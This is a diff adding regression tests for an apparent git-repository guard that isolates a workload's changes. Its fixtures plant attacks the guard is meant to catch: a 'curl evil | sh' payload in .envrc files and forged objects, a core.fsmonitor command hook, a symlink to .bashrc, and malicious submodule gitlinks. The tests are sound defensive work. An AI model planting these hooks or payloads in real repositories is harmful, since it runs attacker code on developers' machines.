@@ -1621,3 +1621,131 @@ def test_a_project_with_a_submodule_or_in_a_worktree_gets_its_throwaways(repo, t
     assert rec["restored"] and not rec["refused"], rec
     if layout == "submodule":
         assert "b.txt" in git(repo / "lib", "ls-files")
+
+
+def _submodule(repo: Path, tmp_path_factory, *history: dict[str, str | None]) -> Path:
+    """REPO with the submodule `lib` (its repository under .git/modules/lib), its
+    upstream's commits HISTORY (files written, None: removed), checked out at the last."""
+    up = tmp_path_factory.mktemp("libsrc")
+    git(up, "init", "-q")
+    for files in history or ({"lib.txt": "lib\n"},):
+        for name, text in files.items():
+            (up / name).parent.mkdir(parents=True, exist_ok=True)
+            (up / name).unlink() if text is None else (up / name).write_text(text)
+        git(up, "add", "-A")
+        git(up, "commit", "-qm", "c")
+    git(repo, "-c", "protocol.file.allow=always", "submodule", "add", "-q", str(up), "lib")
+    git(repo, "add", "-A")
+    git(repo, "commit", "-qm", "base")
+    return repo / "lib"
+
+
+def test_review_39_a_git_directory_a_nested_git_file_names_is_a_throwaway(repo, tmp_path_factory):
+    """Review 39 (high): `x/.git` is `gitdir: ../.subgit`; `.subgit` got no throwaway,
+    so the workload's core.fsmonitor there ran at the host's `git status` in x while the
+    run lasted, and an object it forged there went unverified."""
+    x = repo / "x"
+    x.mkdir()
+    git(x, "init", "-q", "--separate-git-dir", str(repo / ".subgit"))
+    (x / ".git").write_text("gitdir: ../.subgit\n")
+    (x / ".envrc").write_text("# fine\n")
+    git(x, "add", "-Af")
+    git(x, "commit", "-qm", "x")
+    oid = git(x, "rev-parse", "HEAD:.envrc").strip()
+    config = (repo / ".subgit/config").read_text()
+    g = guarded(repo)
+    base = tmp_path_factory.mktemp("runs") / "s"
+    m = mounted(g.shadows(base))
+    assert ".subgit" in m and not m[".subgit"].is_relative_to(repo), sorted(m)
+    with (m[".subgit"] / "config").open("a") as f:
+        f.write('[core]\n\tfsmonitor = "touch pwned; false"\n')
+    forge(repo / ".subgit/objects" / oid[:2] / oid[2:], b"curl evil | sh\n")
+    rec = g.check()
+    refused = {r["path"]: r["how"] for r in rec["refused"]}
+    assert refused.get(".subgit/config") == "shadowed", rec["refused"]
+    assert f".subgit/objects/{oid[:2]}/{oid[2:]}" in refused, rec["refused"]
+    assert (repo / ".subgit/config").read_text() == config
+
+
+def test_review_39_a_junk_multi_pack_index_blinds_no_judgement(repo, tmp_path_factory):
+    """Review 39 (high): a junk multi-pack-index in the submodule's objects made `git
+    cat-file` fail, and the commit the gitlink named counted as none: unlisted, and the
+    host's `git submodule update` wrote its `.envrc`."""
+    lib = _submodule(repo, tmp_path_factory)
+    g = guarded(repo)
+    evil = _unreachable_commit(lib, ".envrc", "curl evil | sh\n")
+    git(repo, "update-index", "--cacheinfo", f"160000,{evil},lib")
+    git(repo, "commit", "-qm", "bump")
+    (repo / ".git/modules/lib/objects/pack/multi-pack-index").write_bytes(b"\0" * 100)
+    rec = g.check()
+    said = {c["path"]: c["change"] for c in rec["watched_changed"]}
+    assert "lib/.envrc" in said.get("lib", ""), said
+
+
+def test_review_39_a_symlink_whose_target_cannot_be_read_is_judged_risky(repo, tmp_path_factory):
+    """Review 39: with the index's symlink blob unreadable (a junk pack index in the
+    objects), a staged `evil -> /home/x/.bashrc` counted as inside the project."""
+    git(repo, "add", "-A")
+    git(repo, "commit", "-qm", "base")
+    g = guarded(repo)
+    base = tmp_path_factory.mktemp("runs") / "s"
+    view = simulate(repo, g.shadows(base), base)
+    (repo / "evil").symlink_to("/home/someone/.bashrc")
+    git(repo, "add", "evil", git_dir=view)
+    (repo / "evil").unlink()
+    oid = git(repo, "ls-files", "-s", "evil", git_dir=view).split()[1]
+    (repo / ".git/objects" / oid[:2] / oid[2:]).unlink()  # as git would find it after a broken repack
+    rec = g.check()
+    refused = {r["path"]: r["change"] for r in rec["refused"]}
+    assert "evil" in refused.get(".git/index", ""), rec["refused"]
+
+
+def test_review_39_a_gitlink_moved_back_to_an_older_commit_is_judged(repo, tmp_path_factory):
+    """Review 39 (medium): the submodule's history added `.envrc` and then removed it;
+    the workload pointed the gitlink back at the older commit (reachable before the
+    run): nothing was listed, and `git submodule update` wrote `.envrc`."""
+    lib = _submodule(repo, tmp_path_factory, {"lib.txt": "a\n", ".envrc": "curl evil | sh\n"}, {".envrc": None})
+    older = git(lib, "rev-parse", "HEAD~1").strip()
+    g = guarded(repo)
+    git(repo, "update-index", "--cacheinfo", f"160000,{older},lib")
+    git(repo, "commit", "-qm", "back")
+    rec = g.check()
+    said = {c["path"]: c["change"] for c in rec["watched_changed"]}
+    assert "lib/.envrc" in said.get("lib", ""), said
+
+
+def test_review_39_a_modules_repository_two_git_files_name_is_judged_at_both(repo, tmp_path_factory):
+    """Review 39 (low): `.git/modules/lib` named by `lib/.git` and `lib2/.git`: judged at
+    lib only, so a gitlink at lib2 went unjudged."""
+    lib = _submodule(repo, tmp_path_factory)
+    (repo / "lib2").mkdir()
+    (repo / "lib2/.git").write_text((lib / ".git").read_text().replace("../", "../", 1))
+    g = guarded(repo)
+    evil = _unreachable_commit(lib, ".envrc", "curl evil | sh\n")
+    git(repo, "update-index", "--add", "--cacheinfo", f"160000,{evil},lib2")
+    git(repo, "commit", "-qm", "lib2")
+    rec = g.check()
+    said = {c["path"]: c["change"] for c in rec["watched_changed"]}
+    assert "lib2/.envrc" in said.get("lib2", ""), said
+
+
+def test_review_39_a_nested_repositorys_submodule_has_its_own_throwaway(repo, tmp_path_factory):
+    """Review 39 (low): a nested repository's submodule (n/.git/modules/s) was copied
+    whole into n/.git's throwaway: objects hard-linked from a local clone were listed as
+    changed on every run, and the workload's commits there were dropped with the copy."""
+    up = tmp_path_factory.mktemp("up")
+    git(up, "init", "-q")
+    (up / "a.txt").write_text("a\n")
+    git(up, "add", "-A")
+    git(up, "commit", "-qm", "a")
+    n = repo / "n"
+    n.mkdir()
+    git(n, "init", "-q")
+    git(n, "-c", "protocol.file.allow=always", "submodule", "add", "-q", str(up), "s")
+    git(n, "commit", "-qm", "s")
+    g = guarded(repo)
+    base = tmp_path_factory.mktemp("runs") / "s"
+    m = mounted(g.shadows(base))
+    assert "n/.git/modules/s" in m and "n/.git/modules/s/objects" in m, sorted(m)
+    rec = g.check()
+    assert rec["refused"] == [] and rec["restored"], rec
